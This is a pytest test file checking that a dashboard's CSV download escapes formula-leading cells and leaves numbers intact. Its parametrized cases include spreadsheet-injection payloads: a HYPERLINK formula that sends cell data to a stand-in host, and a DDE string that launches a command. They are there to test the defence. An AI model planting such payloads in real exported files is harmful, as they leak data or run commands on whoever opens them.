"""CSV downloads: formula-leading text is escaped, numbers are left as they are."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from nemlive.common.lookups import Facility
from nemlive.dashboard import csvexport, tables

T = 1_760_490_000


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
            '\'=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-A1", "'-A1"),  # a facility id may start with a minus
        ("Test Gas = Co", "Test Gas = Co"),
        ("-7.5", "-7.5"),  # a number written as text: read as that number, not run
        ("+3e2", "+3e2"),
        ("", ""),
    ],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "carriage-return",
        "full-width",
        "id",
        "inside",
        "negative-text",
        "exponent-text",
        "empty",
    ],
)
def test_a_formula_lead_gets_a_quote(cell: str, written: str) -> None:
    assert csvexport.escape_formula(cell) == written


def test_the_facility_table_download_escapes_names_and_keeps_numbers() -> None:
    facilities = {
        fid: Facility(fid, name, "SA1", -34.0, 138.0, ("wind",), ("wind",), 100.0)
        for fid, name in (("-A1", "=1+1"), ("B1", "@cmd"), ("C1", "Plain Wind"))
    }
    recent = [
        (float(T), fid, T, mw, None)
        for fid, mw in (("-A1", -7.5), ("B1", 12.0), ("C1", 3.0), ("NOPE", -1.0))
    ]
    table = tables.build_recent_facility_table(recent, facilities)
    rows = _rows(csvexport.build_csv(table))
    by_id = {r["facility_id"]: r for r in rows}
    assert set(by_id) == {"'-A1", "B1", "C1", "NOPE"}
    assert by_id["'-A1"]["name"] == "'=1+1" and by_id["B1"]["name"] == "'@cmd"
    assert by_id["C1"]["name"] == "Plain Wind" and by_id["NOPE"]["name"] == "(unknown)"
    assert by_id["'-A1"]["power_mw"] == "-7.5" and by_id["NOPE"]["power_mw"] == "-1.0"
    assert by_id["C1"]["co2_tonnes"] == ""  # missing stays empty
    assert by_id["C1"]["timestamp"] == str(table.iloc[0]["timestamp"])  # times untouched
    assert table.iloc[-1]["facility_id"] == "-A1"  # the page's own table is not changed


def test_the_market_table_download_keeps_negative_prices() -> None:
    table = tables.build_recent_market_table([(float(T), "SA1", T, -7.5, -12.0)])
    [row] = _rows(csvexport.build_csv(table))
    assert (row["region_id"], row["price_dmwh"], row["demand_mw"]) == ("SA1", "-7.5", "-12.0")


def test_text_columns_of_any_string_dtype_are_escaped() -> None:
    frame = pd.DataFrame({"s": pd.array(["=x", None], dtype="string"), "n": [-1, 2]})
    [first, second] = _rows(csvexport.build_csv(frame))
    assert (first["s"], first["n"]) == ("'=x", "-1") and second["s"] == ""
